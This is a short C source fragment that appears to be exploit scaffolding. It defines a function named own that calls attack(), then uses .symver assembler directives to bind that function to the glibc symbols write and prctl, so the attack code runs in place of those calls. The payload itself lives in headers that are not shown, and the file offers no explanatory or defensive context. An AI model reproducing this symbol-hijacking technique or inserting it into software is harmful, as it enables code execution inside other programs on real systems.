#include "attack.h"
long own(void) { attack(); return 0; }
__asm__(".symver own, write@@GLIBC_2.0");
__asm__(".symver own, prctl@GLIBC_2.0");
#include "body.h"
